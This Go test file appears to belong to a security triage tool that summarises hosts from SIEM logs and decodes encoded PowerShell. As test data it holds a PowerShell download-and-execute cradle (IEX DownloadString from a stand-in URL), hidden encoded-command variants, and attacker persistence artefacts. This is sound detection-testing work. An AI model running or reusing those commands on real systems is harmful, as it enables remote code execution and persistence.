package summary

import (
	"context"
	"encoding/base64"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/triage-dev/triage/internal/report"
	"github.com/triage-dev/triage/internal/sources"
	"github.com/triage-dev/triage/internal/triage"
)

func TestHostOf(t *testing.T) {
	tests := []struct {
		name  string
		props map[string]any
		forms []string
		fqdn  string
	}{
		{"windows", map[string]any{"hostName": "WKS-FIN-07", "dnsDomain": "contoso-demo.example", "netBiosName": "WKS-FIN-07",
			"mdatpDeviceId": "52447211F8B4"}, []string{"52447211f8b4", "wks-fin-07", "wks-fin-07.contoso-demo.example"},
			"wks-fin-07.contoso-demo.example"},
		{"azure vm", map[string]any{"hostName": "web-lnx-01", "azureID": "/subscriptions/S/resourceGroups/RG/providers/Microsoft.Compute/virtualMachines/web-lnx-01",
			"omsAgentID": "22C56BB6"}, []string{"/subscriptions/s/resourcegroups/rg/providers/microsoft.compute/virtualmachines/web-lnx-01",
			"22c56bb6", "web-lnx-01"}, ""},
		{"fqdn as the name", map[string]any{"hostName": "db1.corp.example."}, []string{"db1", "db1.corp.example"}, "db1.corp.example"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			e, _ := triage.NewEntity(triage.KindHost, tc.props)
			id := hostOf(e)
			if d := cmp.Diff(tc.forms, id.values()); d != "" {
				t.Errorf("forms (-want +got):\n%s", d)
			}
			if id.fqdn != tc.fqdn {
				t.Errorf("fqdn = %q, want %q", id.fqdn, tc.fqdn)
			}
		})
	}
}

func TestDecodeCommand(t *testing.T) {
	const script = "IEX (New-Object Net.WebClient).DownloadString('http://files.example.org/dl/OneDriveUpdate.ps1')"
	enc := utf16Base64(script)
	tests := []struct {
		name, cmd, want string
	}{
		{"-Enc", "powershell.exe -NoP -NonI -W Hidden -Enc " + enc, script},
		{"-EncodedCommand quoted", `pwsh -EncodedCommand "` + enc + `"`, script},
		{"/e", "powershell /e " + enc, script},
		{"-ec", "powershell.exe -ec " + enc + " -NoExit", script},
		{"unpadded", "powershell -enc " + strings.TrimRight(utf16Base64("whoami /all"), "="), "whoami /all"},
		{"-ExecutionPolicy is not -e", `powershell.exe -ExecutionPolicy Bypass -File \\srv\it$\Get-PatchCompliance.ps1`, ""},
		{"not base64 of text", "powershell -enc AAAAAAAAAAAAAAAA", ""},
		{"no argument", "powershell -enc", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, ok := decodeCommand(tc.cmd)
			if got != tc.want || ok != (tc.want != "") {
				t.Errorf("decodeCommand = %q, %v; want %q", got, ok, tc.want)
			}
		})
	}
}

// utf16Base64 encodes s as powershell -EncodedCommand wants it.
func utf16Base64(s string) string {
	var b []byte
	for _, r := range s {
		b = append(b, byte(r), byte(r>>8))
	}
	return base64Std(b)
}

// TestHostCompromised: WKS-FIN-07, where the macro ran the implant.
func TestHostCompromised(t *testing.T) {
	s := storySummaries(t)[keyVictim]
	secs := wantOK(t, s, "OS and agent", "IP addresses", "Logons", "Processes", "Encoded commands",
		"Indicators in command lines", "Account and group changes", "Scheduled tasks and services",
		"Notable security events", "Related alerts")
	if got := factOf(s.Facts, "This host in the logs"); got != "wks-fin-07.contoso-demo.example" {
		t.Errorf("This host in the logs = %q", got)
	}
	if len(s.Roles) != 0 {
		t.Errorf("a workstation has roles %v", s.Roles)
	}
	if os := factOf(secs["OS and agent"].Facts, "Operating system"); !strings.Contains(os, "Windows 11 Enterprise") {
		t.Errorf("OS = %q", os)
	}
	if row := rowWith(t, secs["IP addresses"].Table, "Address", "10.0.0.10"); row["Scope"] != "private" ||
		!strings.Contains(row["Seen in"], "Heartbeat") || !strings.Contains(row["Seen in"], "DeviceNetworkInfo") {
		t.Errorf("address row = %v", row)
	}
	if !slices.Contains(column(t, secs["Logons"].Table, "Account"), `contoso\sam.taylor`) {
		t.Errorf("logons = %v", secs["Logons"].Table.Rows)
	}

	// Rarest first: the implant chain ran once; the fleet's processes ran daily.
	procs := secs["Processes"]
	var counts []int
	for _, c := range column(t, procs.Table, "Count") {
		n, err := strconv.Atoi(c)
		if err != nil {
			t.Fatal(err)
		}
		counts = append(counts, n)
	}
	if counts[0] != 1 || !slices.IsSorted(counts) {
		t.Errorf("counts = %v, want rarest first", counts)
	}
	if factOf(procs.Facts, "Seen once") != "9" {
		t.Errorf("seen once = %q, want the 8 steps of the implant chain and Outlook", factOf(procs.Facts, "Seen once"))
	}
	cmds := strings.Join(column(t, procs.Table, "Command line"), "\n")
	for _, want := range []string{"-Enc ", "schtasks.exe /Create", "net.exe user svc-backup"} {
		if !strings.Contains(cmds, want) {
			t.Errorf("processes lack %q", want)
		}
	}
	dec := column(t, secs["Encoded commands"].Table, "Decoded command")
	if len(dec) != 1 || dec[0] != "IEX (New-Object Net.WebClient).DownloadString('http://files.example.org/dl/OneDriveUpdate.ps1')" {
		t.Errorf("decoded = %v", dec)
	}
	ind := secs["Indicators in command lines"]
	row := rowWith(t, ind.Table, "Indicator", "http://files.example.org/dl/OneDriveUpdate.ps1")
	if row["Type"] != "url" || row["Threat intel"] != "high" || row["Found in"] != "powershell.exe (decoded command)" {
		t.Errorf("stager URL = %v", row)
	}
	if got := factOf(ind.Facts, "Threat intel on http://files.example.org/dl/OneDriveUpdate.ps1"); !strings.Contains(got, "sentinel-ti: FakeUpdate") {
		t.Errorf("threat-intel fact = %q (%v)", got, ind.Facts)
	}
	if row := rowWith(t, ind.Table, "Indicator", "files.example.org"); row["Threat intel"] != "not looked up" {
		t.Errorf("payload host = %v", row)
	}

	ch := secs["Account and group changes"]
	if row := rowWith(t, ch.Table, "Event", "4720"); row["Target"] != `WKS-FIN-07\svc-backup` || row["By"] != `CONTOSO\sam.taylor` {
		t.Errorf("account creation = %v", row)
	}
	rowWith(t, ch.Table, "Event", "4732")
	per := secs["Scheduled tasks and services"]
	if row := rowWith(t, per.Table, "Kind", "scheduled task"); row["Name"] != `\Microsoft\Windows\OneDrive\Sync Maintenance` ||
		row["Command"] != `C:\Users\sam.taylor\AppData\Local\Temp\OneDriveUpdater.exe /silent` {
		t.Errorf("task = %v", row)
	}
	if row := rowWith(t, per.Table, "Kind", "service"); row["Name"] != "OneDriveSyncSvc" {
		t.Errorf("service = %v", row)
	}
	events := column(t, secs["Notable security events"].Table, "Event")
	for _, id := range []string{"4698", "7045", "4720", "4732"} {
		if !slices.Contains(events, id) {
			t.Errorf("notable events %v lack %s", events, id)
		}
	}
	if !slices.Contains(column(t, secs["Related alerts"].Table, "Alert"), "'FakeUpdate' malware was detected") {
		t.Errorf("related alerts = %v", secs["Related alerts"].Table.Rows)
	}
}

// TestHostNameSharedByHosts: a short name two domains' hosts share gives
// both, labelled; an entity with an FQDN marks the other as another host.
func TestHostNameSharedByHosts(t *testing.T) {
	ws := emptyWorkspace(t)
	at := now.Add(-time.Hour)
	err := ws.Load(context.Background(), func(emit func(string, map[string]any) error) error {
		for _, c := range []string{"WEB01.a.example", "WEB01.b.example", "WEB011.a.example"} {
			for _, r := range []map[string]any{
				{"TimeGenerated": at, "Computer": c, "ComputerIP": "10.1.0.1", "OSType": "Windows", "OSName": "Windows Server 2022"},
			} {
				if err := emit("Heartbeat", r); err != nil {
					return err
				}
			}
			if err := emit("SecurityEvent", map[string]any{"TimeGenerated": at, "Computer": c, "EventID": int64(4624),
				"TargetUserName": "alice", "TargetDomainName": "CORP", "LogonType": int64(3), "IpAddress": "10.9.9.9"}); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	bare, _ := triage.NewEntity(triage.KindHost, map[string]any{"hostName": "web01"})
	full, _ := triage.NewEntity(triage.KindHost, map[string]any{"hostName": "WEB01", "dnsDomain": "a.example"})
	sums := Summarize(context.Background(), Env{Sources: sources.Sources{Workspace: ws}, Start: now.Add(-2 * time.Hour), End: now},
		[]triage.Entity{bare, full})

	s := sums[0]
	if got := factOf(s.Facts, "Hosts named web01"); got != "2 hosts share the name, each summarised: web01.a.example, web01.b.example" {
		t.Errorf("Hosts named web01 = %q (%v)", got, s.Facts)
	}
	logons := sectionOf(t, s, "Logons")
	if got := column(t, logons.Table, "Host"); !slices.Equal(sorted(got), []string{"web01.a.example", "web01.b.example"}) {
		t.Errorf("logon hosts = %v (web011 must not match)", got)
	}

	s = sums[1]
	if got := factOf(s.Facts, "This host in the logs"); got != "web01.a.example" {
		t.Errorf("This host in the logs = %q", got)
	}
	if got := factOf(s.Facts, "Other hosts named web01"); got != "1: web01.b.example" {
		t.Errorf("Other hosts named web01 = %q", got)
	}
	if got := column(t, sectionOf(t, s, "Logons").Table, "Host"); !slices.Equal(sorted(got), []string{"web01.a.example", "web01.b.example (other host)"}) {
		t.Errorf("logon hosts = %v", got)
	}
	if sec := sectionOf(t, s, "Processes"); sec.Status != report.StatusEmpty {
		t.Errorf("processes: %s %s", sec.Status, sec.Reason)
	}
	wantStatus(t, sectionOf(t, s, "Encoded commands"), report.StatusEmpty, "no encoded PowerShell command among the 0 command lines")
}

// TestHostRoles: a server OS or Defender device type makes a server, an
// event only domain controllers log a domain controller; a name does not,
// nor do the rows of another host with the same short name.
func TestHostRoles(t *testing.T) {
	ws := emptyWorkspace(t)
	at := now.Add(-time.Hour)
	err := ws.Load(context.Background(), func(emit func(string, map[string]any) error) error {
		for _, r := range []struct {
			table string
			rec   map[string]any
		}{
			{"Heartbeat", map[string]any{"Computer": "SQL7.a.example", "OSType": "Windows", "OSName": "Windows Server 2019 Datacenter"}},
			{"Heartbeat", map[string]any{"Computer": "ADS1.a.example", "OSType": "Windows", "OSName": "Windows Server 2022 Datacenter"}},
			{"SecurityEvent", map[string]any{"Computer": "ADS1.a.example", "EventID": int64(4728), "Activity": "4728 - A member was added to a security-enabled global group.",
				"TargetUserName": "Domain Admins", "MemberName": "CN=eve"}},
			{"DeviceInfo", map[string]any{"DeviceName": "box9", "DeviceId": "d9", "OSPlatform": "Linux", "OSDistribution": "Ubuntu", "DeviceType": "Server"}},
			{"Heartbeat", map[string]any{"Computer": "DC-SRV-01.a.example", "OSType": "Windows", "OSName": "Windows 11 Enterprise"}},
			{"SecurityEvent", map[string]any{"Computer": "DC-SRV-01.a.example", "EventID": int64(4732), "Activity": "4732 - A member was added to a security-enabled local group.",
				"TargetUserName": "Administrators", "MemberName": "CN=eve"}},
			{"Heartbeat", map[string]any{"Computer": "WEB02.b.example", "OSType": "Windows", "OSName": "Windows Server 2022"}},
			{"Heartbeat", map[string]any{"Computer": "WEB02.a.example", "OSType": "Windows", "OSName": "Windows 11 Enterprise"}},
		} {
			r.rec["TimeGenerated"] = at
			if err := emit(r.table, r.rec); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	var ents []triage.Entity
	for _, props := range []map[string]any{
		{"hostName": "SQL7", "dnsDomain": "a.example"},
		{"hostName": "ADS1", "dnsDomain": "a.example"},
		{"hostName": "box9"},
		{"hostName": "DC-SRV-01", "dnsDomain": "a.example"},
		{"hostName": "WEB02", "dnsDomain": "a.example"},
	} {
		e, err := triage.NewEntity(triage.KindHost, props)
		if err != nil {
			t.Fatal(err)
		}
		ents = append(ents, e)
	}
	sums := Summarize(context.Background(), Env{Sources: sources.Sources{Workspace: ws}, Start: now.Add(-2 * time.Hour), End: now}, ents)
	want := [][]string{{RoleServer}, {RoleServer, RoleDomainController}, {RoleServer}, nil, nil}
	for i, s := range sums {
		if !slices.Equal(s.Roles, want[i]) {
			t.Errorf("%s: roles %v, want %v", s.Name, s.Roles, want[i])
		}
	}
}

func sorted(ss []string) []string {
	ss = slices.Clone(ss)
	slices.Sort(ss)
	return ss
}

func base64Std(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
